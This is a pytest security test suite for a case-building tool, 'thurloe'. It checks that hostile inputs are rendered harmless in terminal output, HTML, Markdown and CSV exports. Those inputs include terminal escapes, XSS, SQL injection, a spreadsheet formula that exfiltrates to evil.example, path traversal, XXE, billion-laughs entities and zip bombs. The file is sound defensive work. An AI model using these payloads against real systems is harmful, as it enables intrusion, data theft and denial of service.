"""What hostile accounts carry in texts, names, headers and cells stays words in every output."""

import csv
import html
import io
import json
import re
import sqlite3
import tracemalloc
import zipfile
import zlib
from email.header import Header
from html.parser import HTMLParser

import docx
import networkx as nx
import pytest
from typer.testing import CliRunner

from thurloe.case import new_case, open_case
from thurloe.cli.main import app
from thurloe.read import find_files, read_accounts
from thurloe.report import to_html

ESC = "\x1b]0;owned\x07\x1b[2J\x1b[31m\x9b1m\u202egnp\u2066\u200f"
MARKUP = "<script>alert(1)</script><img src=x onerror=alert(2)></title></script>{{7*7}}"
LINK = "[go](javascript:alert(3))"
SQL = 'x\'; DROP TABLE event; DELETE FROM blob WHERE "1"="1"; --'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"see")'
FORGED = "Ann\n    7  2026-01-01T00:00:00Z  Ann Lee: accepted everything"
EVERY = {"terminal": ESC, "markup": MARKUP, "link": LINK, "sql": SQL, "formula": FORMULA}
EVERY["forged"] = FORGED

# What a terminal would act on: C0 but for tab and end of line, C1, and what turns the direction.
ACTS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]")


class Tags(HTMLParser):
    """The tags of a page that run or load something, and attributes that do."""

    def __init__(self):
        super().__init__()
        self.found = []
        self.scripts = 0

    def handle_starttag(self, tag, attrs):
        self.scripts += tag == "script"
        if tag in {"img", "iframe", "object", "embed"}:
            self.found.append(tag)
        self.found += [
            name
            for name, value in attrs
            if name.startswith("on") or "javascript:" in (value or "").lower()
        ]


def csv_cell(text):
    return '"' + text.replace('"', '""') + '"'


def file_name(text):
    """The text as a file may be called: everything but a slash and a null."""
    return text.replace("/", "|").replace("\0", "")[:120]


@pytest.fixture(params=EVERY, scope="module")
def hostile(request):
    return EVERY[request.param]


@pytest.fixture(scope="module")
def folder(tmp_path_factory, hostile):
    """Accounts whose texts, names, sources, titles and mail headers are all hostile."""
    inside = tmp_path_factory.mktemp("in")
    said = " ".join(hostile.split())
    first = file_name(f"{hostile}.txt")
    (inside / first).write_text(
        f"{said}\n\nThe ferry Heron sank on 3 May 1962. Forty people died. {hostile}\n", "utf-8"
    )
    (inside / "b.txt").write_text(
        f"The ferry Heron sank on 4 May 1962. Fifty people died, said {said}.\n", "utf-8"
    )
    subject, sender = (Header(text, "utf-8").encode() for text in (said, said))
    (inside / "c.eml").write_text(
        f"From: {sender} <a@b.example>\nSubject: {subject}\nDate: Sat, 5 May 1962 10:00:00 +0000\n"
        f"Content-Type: text/plain; charset=utf-8\n\nThe ferry Heron sank on 3 May 1962.\n",
        "utf-8",
    )
    (inside / "d.html").write_text(
        f"<html><head><title>{html.escape(said)}</title></head><body><p>The ferry Heron sank on "
        f"3 May 1962. Sixty people died. {html.escape(hostile)}</p></body></html>",
        "utf-8",
    )
    (inside / "accounts.csv").write_text(
        f"file,source\nb.txt,{csv_cell(hostile)}\n", "utf-8", newline=""
    )
    return inside


@pytest.fixture(scope="module")
def case(folder, tmp_path_factory, hostile):
    path = tmp_path_factory.mktemp("case") / "heron.case"
    with new_case(path, title=hostile, by=hostile) as made:
        made.add(folder, because=hostile)
        made.grade(made.brief().sources[0].name, "B", because=hostile)
    return path


def run(*args, code=0):
    done = CliRunner().invoke(app, [str(a) for a in args])
    assert done.exit_code == code, done.output
    return done


COMMANDS = [
    ("brief",),
    ("brief", "--format", "md"),
    ("brief", "--format", "json"),
    ("brief", "--about", "Heron"),
    ("log",),
    ("log", "--json"),
    ("log", "--json", "--reveal"),
    ("review",),
    ("review", "--json"),
    ("search", "ferry"),
    ("search", "people died"),
    ("verify",),
]


@pytest.mark.parametrize("command", COMMANDS, ids=" ".join)
def test_nothing_that_is_printed_works_on_the_terminal(case, command):
    name, *more = command
    done = run("case", name, case, *more)
    assert ACTS.findall(done.stdout + done.stderr) == []
    assert "Heron" in done.stdout or name in {"log", "verify", "review"}


def test_no_line_of_the_log_is_forged(case):
    with open_case(case) as it:
        events = len(it.log())
    lines = run("case", "log", case).stdout.splitlines()
    assert len(lines) == events + 1
    assert [int(line.split()[0]) for line in lines[:-1]] == list(range(1, events + 1))


def test_adding_and_leaving_out_print_nothing_that_works_on_the_terminal(case, tmp_path, hostile):
    (tmp_path / file_name(f"{hostile}.pdf")).write_bytes(b"%PDF-1.7")
    done = run("case", "add", case, tmp_path, "-q", code=3)
    assert ACTS.findall(done.stdout + done.stderr) == []
    assert "left out" in done.stderr


def test_the_page_runs_nothing_of_theirs(case, tmp_path):
    run("case", "brief", case, "-o", tmp_path / "x.html", "-q")
    tags = Tags()
    tags.feed((tmp_path / "x.html").read_text("utf-8"))
    with new_case(tmp_path / "tame.case") as tame:
        (tmp_path / "tame.txt").write_text("By Ann Lee\n\nThe ferry Heron sank on 3 May 1962.\n")
        tame.add(tmp_path / "tame.txt")
    run("case", "brief", tmp_path / "tame.case", "-o", tmp_path / "tame.html", "-q")
    ours = Tags()
    ours.feed((tmp_path / "tame.html").read_text("utf-8"))
    assert (tags.found, tags.scripts) == (ours.found, ours.scripts)


def test_markdown_makes_no_link_and_no_tag_of_theirs(case):
    said = run("case", "brief", case, "--format", "md", "--without-texts").stdout
    assert "<script" not in said
    assert "<img" not in said
    assert re.findall(r"(?<!\\)\]\(javascript", said) == []


@pytest.mark.parametrize("form", ["csv", "jsonl", "graphml", "claimreview", "stix", "ftm"])
def test_exports_hold(case, tmp_path, form):
    with open_case(case) as it:
        it.export(tmp_path / "out", form=form)
    data = (tmp_path / "out").read_text("utf-8")
    assert "Heron" in data
    if form == "csv":
        cells = re.findall(r'"((?:[^"]|"")*)"', data)
        assert [cell for cell in cells if re.match(r"[=+\-@\t\r＝＋－＠]", cell)] == []


def test_the_store_is_whole(case, hostile):
    with open_case(case) as it:
        assert it.verify() == ()
        assert len(it.state().accounts) == 4
        for words in (hostile, f'"{hostile}"', f"{hostile}*", f"ferry {hostile}"):
            list(it.search(words))
        list(it.search("ferry NEAR(heron sank) OR text:* AND NOT"))
        assert it.verify() == ()
    with sqlite3.connect(case) as raw:
        assert raw.execute("SELECT count(*) FROM event").fetchone()[0] > 8
    raw.close()


def test_nothing_is_written_elsewhere(tmp_path):
    """Names in a mailbox, a mail, a listing and a table lead nowhere."""
    inside = tmp_path / "deep" / "in"
    inside.mkdir(parents=True)
    evil = "../../evil.txt"
    (inside / "a.eml").write_text(
        "From: a@b.example\nSubject: x\nMIME-Version: 1.0\n"
        'Content-Type: multipart/mixed; boundary="b"\n\n--b\nContent-Type: text/plain\n\n'
        "The ferry Heron sank on 3 May 1962.\n--b\nContent-Type: application/octet-stream\n"
        f'Content-Disposition: attachment; filename="{evil}"\n\nboo\n--b--\n'
    )
    (inside / "b.mbox").write_text(
        "From ../../evil Sat May  5 10:00:00 1962\nFrom: ../../evil <../../e@x.example>\n"
        "Subject: ../../evil\n\nThe ferry Heron sank on 3 May 1962.\n"
    )
    (inside / "c.txt").write_text("The ferry Heron sank on 4 May 1962.\n")
    (inside / "accounts.csv").write_text(
        f"file,source,passed_on_from\n{evil},Eve,\n/etc/passwd,Eve,\nc.txt,{evil},{evil}\n"
    )
    (tmp_path / "t.csv").write_text(
        f"source,account,quote,attribute,value\n{evil},{evil},it sank,date,1962-05-03\n"
    )
    before = sorted(str(p) for p in tmp_path.rglob("*"))
    with new_case(tmp_path / "x.case") as it:
        it.add(inside)
        it.take(tmp_path / "t.csv")
        files = [account.file for account in it.brief().accounts]
        assert not any(".." in file or file.startswith("/") for file in files)
        assert not any("root:" in account.text for account in it.brief().accounts)
    after = {str(p) for p in tmp_path.rglob("*")}
    assert {p for p in after - set(before) if "x.case" not in p} == set()


def word_file(path, body, part="word/document.xml"):
    """A DOCX of which one part, its document if no other is named, is this XML."""
    made = io.BytesIO()
    docx.Document().save(made)
    with zipfile.ZipFile(made) as old, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
        for item in old.infolist():
            new.writestr(item, body if item.filename == part else old.read(item.filename))


def test_a_document_reads_no_file_and_grows_no_entities(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("the harbour code is 4711")
    space = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    told = "The ferry Heron sank on 3 May 1962."
    paragraph = f"<w:p><w:r><w:t>{told} &x;</w:t></w:r></w:p>"
    outside = f'<!DOCTYPE d [<!ENTITY x SYSTEM "{secret.as_uri()}">]>'
    laughs = "".join(f'<!ENTITY x{n} "{f"&x{n - 1};" * 10}">' for n in range(1, 10))
    grown = f'<!DOCTYPE d [<!ENTITY x0 "haha">{laughs}<!ENTITY x "&x9;">]>'
    folder = tmp_path / "in"
    folder.mkdir()
    for name, head in (("outside.docx", outside), ("grown.docx", grown)):
        document = f"<w:document {space}><w:body>{paragraph}</w:body></w:document>"
        word_file(folder / name, f'<?xml version="1.0"?>{head}{document}')
    reading = read_accounts(find_files([folder]))
    assert len(reading.accounts) + len(reading.left_out) == 2
    for account in reading.accounts:
        assert "4711" not in account.text
        assert len(account.text) < 1000


SPACE = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
CORE = "http://schemas.openxmlformats.org/package/2006/metadata/core-properties"


def test_the_title_and_author_of_a_document_read_no_file(tmp_path):
    (tmp_path / "secret.txt").write_text("the harbour code is 4711")
    folder = tmp_path / "in"
    folder.mkdir()
    entity = f'<!DOCTYPE c [<!ENTITY x SYSTEM "{(tmp_path / "secret.txt").as_uri()}">]>'
    said = "<dc:title>&x; one</dc:title><dc:creator>&x;</dc:creator>"
    space = f'xmlns:cp="{CORE}" xmlns:dc="http://purl.org/dc/elements/1.1/"'
    core = f'<?xml version="1.0"?>{entity}<cp:coreProperties {space}>{said}</cp:coreProperties>'
    word_file(folder / "a.docx", core, "docProps/core.xml")
    assert "4711" not in repr(read_accounts(find_files([folder])))


def cell(text, more=""):
    return f"<w:tc><w:tcPr>{more}</w:tcPr><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:tc>"


def test_a_table_that_says_it_is_huge_is_as_large_as_it_is(tmp_path):
    """A cell over a billion columns is one, and a long one over many rows is said once."""
    far = '<w:gridSpan w:val="1000000000"/>'
    wide = f"<w:tr>{cell('Port', far)}{cell('Torvik')}</w:tr>"
    begun, on = '<w:vMerge w:val="restart"/>', "<w:vMerge/>"
    told = "The ferry Heron sank on 3 May 1962. " * 20
    tall = f"<w:tr>{cell(told, begun)}{cell('first')}</w:tr>"
    tall += "".join(f"<w:tr>{cell('', on)}{cell(f'row {n}')}</w:tr>" for n in range(3000))
    named = (
        f"<w:tr>{cell('Crew', begun)}{cell('Ann')}</w:tr><w:tr>{cell('', on)}{cell('Bo')}</w:tr>"
    )
    tables = "".join(f"<w:tbl><w:tblGrid/>{rows}</w:tbl><w:p/>" for rows in (wide, tall, named))
    body = f"<w:document {SPACE}><w:body>{tables}</w:body></w:document>"
    word_file(tmp_path / "a.docx", body)
    (account,) = read_accounts(find_files([tmp_path])).accounts
    assert account.text.startswith("Port | Torvik\n\nThe ferry Heron")
    assert account.text.count("Heron") == 20
    assert "row 2999" in account.text
    assert account.text.rstrip().endswith("Crew | Ann\nCrew | Bo")


@pytest.mark.parametrize("method", [zipfile.ZIP_DEFLATED, zipfile.ZIP_BZIP2])
def test_a_zip_bomb_that_lies_about_its_size_does_not_go_off(tmp_path, method):
    """Of a part that says it has ten bytes no more than these are unpacked."""
    size, name = 256 << 20, "docProps/core.xml"
    made = io.BytesIO()
    docx.Document().save(made)
    with (
        zipfile.ZipFile(made) as old,
        zipfile.ZipFile(tmp_path / "a.docx", "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for item in old.infolist():
            if item.filename != name:
                new.writestr(item, old.read(item.filename))
        lying = zipfile.ZipInfo(name)
        lying.compress_type = method
        with new.open(lying, "w") as part:
            for _ in range(size >> 20):
                part.write(bytes(1 << 20))
    data = (tmp_path / "a.docx").read_bytes()
    lies = {size: 10, lying.CRC: zlib.crc32(bytes(10))}
    for true, said in lies.items():
        data = data.replace(true.to_bytes(4, "little"), said.to_bytes(4, "little"))
    (tmp_path / "a.docx").write_bytes(data)
    tracemalloc.start()
    reading = read_accounts(find_files([tmp_path]))
    _, most = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert reading.accounts == ()
    assert most < 20 << 20


@pytest.mark.parametrize("name", ["a.html", "a.xhtml", "a.svg", "a.xml", "a.txt", "a.md"])
def test_entities_of_a_page_read_no_file_and_grow_nothing(tmp_path, name):
    secret = tmp_path / "secret"
    secret.write_text("the harbour code is 4711")
    grown = "".join(f'<!ENTITY y{n} "{f"&y{n - 1};" * 10}">' for n in range(1, 10))
    entities = f'<!ENTITY x SYSTEM "{secret.as_uri()}"><!ENTITY y0 "haha">{grown}'
    told = "The ferry Heron sank on 3 May 1962, and nobody in the harbour saw her go."
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / name).write_text(
        f'<?xml version="1.0"?><!DOCTYPE html [{entities}]><html xmlns="http://www.w3.org/1999/xhtml">'
        f'<body><p>{told} &x; &y9;</p><svg><text>&x;</text></svg><iframe src="{secret.as_uri()}">'
        "</iframe></body></html>"
    )
    reading = read_accounts(find_files([tmp_path / "in"]))
    assert len(reading.accounts) + len(reading.left_out) == 1
    assert "4711" not in repr(reading)
    assert len(repr(reading.accounts)) < 10_000


@pytest.mark.parametrize(
    "charset", ["../../etc/passwd", "zlib_codec", "idna", "rot13", "undefined"]
)
def test_a_charset_is_an_encoding_and_nothing_else(tmp_path, charset):
    (tmp_path / "a.eml").write_text(
        f"From: a@b.example\nSubject: =?{charset}?q?x?=\nMIME-Version: 1.0\n"
        f'Content-Type: text/plain; charset="{charset}"\n\nThe ferry Heron sank on 3 May 1962.\n'
    )
    (tmp_path / "b.html").write_text(
        f'<meta charset="{charset}"><p>The ferry Heron sank on 4 May 1962 in the night.</p>'
    )
    reading = read_accounts(find_files([tmp_path]))
    assert len(reading.accounts) + len(reading.left_out) == 2
    assert all("Heron sank on" in account.text for account in reading.accounts)


def test_a_listing_names_files_of_its_own_folder_alone(tmp_path):
    (tmp_path / "secret.txt").write_text("The harbour code is 4711.")
    inside = tmp_path / "in"
    inside.mkdir()
    (inside / "b.txt").write_text("The ferry Heron sank on 3 May 1962.\n")
    names = ["../secret.txt", str(tmp_path / "secret.txt"), "b.txt/../../secret.txt", "**/*"]
    names += ["~/secret.txt", "*.txt", "b.txt\0/../../secret.txt", "....//secret.txt"]
    rows = "".join(f"{csv_cell(name)},Eve\n" for name in names)
    (inside / "accounts.csv").write_text(f"file,source\n{rows}")
    reading = read_accounts(find_files([inside]))
    assert [account.file for account in reading.accounts] == ["b.txt"]
    assert {source.name for source in reading.sources} == {"b"}
    assert "4711" not in repr(reading)


def test_a_hostile_table_makes_no_page_run_and_no_cell_act(tmp_path, hostile):
    """In every cell that can say something, names of people and things too."""
    row = {"quote": f"{hostile} sank on 3 May 1962", "attribute": "date", "subject_type": "person"}
    said = ("source", "account", "subject", "event", "lemma", "cited", "through", "about")
    row |= dict.fromkeys((*said, "passed_on_from"), hostile)
    row["roles"] = f"object: {hostile}; place: {hostile}"
    rows = [row | {"value": "1962-05-03"}, row | {"value": "1962-05-04", "source": f"{hostile} 2"}]
    (tmp_path / "x.jsonl").write_text("".join(f"{json.dumps(one)}\n" for one in rows))
    with new_case(tmp_path / "x.case", by=hostile) as it:
        it.take(tmp_path / "x.jsonl", because=hostile)
        for statement, _ in list(it.sight().statements()):
            with it.acting("Ben"):
                it.accept(statement.handle, because=hostile)
            it.reject(statement.handle, because=hostile)
        it.reject(next(it.sight().statements())[0].handle, because=hostile)
        it.review()
        for form in ("csv", "graphml"):
            it.export(tmp_path / f"out.{form}")
        tags = Tags()
        tags.feed(to_html(it.brief()))
        assert (tags.found, tags.scripts) == ([], 1)
        assert it.verify() == ()
    with (tmp_path / "out.csv").open(encoding="utf-8", newline="") as table:
        cells = [one for cells in csv.reader(table) for one in cells]
    assert [one for one in cells if re.match(r"[=+\-@\t\r＝＋－＠]", one)] == []
    assert len(nx.read_graphml(tmp_path / "out.graphml")) > 2


def test_a_zip_bomb_is_left_out(tmp_path):
    made = io.BytesIO()
    docx.Document().save(made)
    with zipfile.ZipFile(made, "a", zipfile.ZIP_DEFLATED) as bomb:
        for n in range(5):
            bomb.writestr(f"word/media/{n}.bin", bytes(64 << 20))
    (tmp_path / "bomb.docx").write_bytes(made.getvalue())
    assert len(made.getvalue()) < 1 << 20
    reading = read_accounts(find_files([tmp_path / "bomb.docx"]))
    assert reading.accounts == ()
    assert "which no document needs and an attack would" in reading.left_out[0].why


def test_json_says_the_very_characters(case, hostile):
    """What a terminal acts on is escaped, not lost."""
    printed = json.loads(run("case", "brief", case, "--format", "json").stdout)
    texts = {s["name"] for s in printed["sources"]}
    assert any(" ".join(hostile.split())[:5] in name for name in texts)
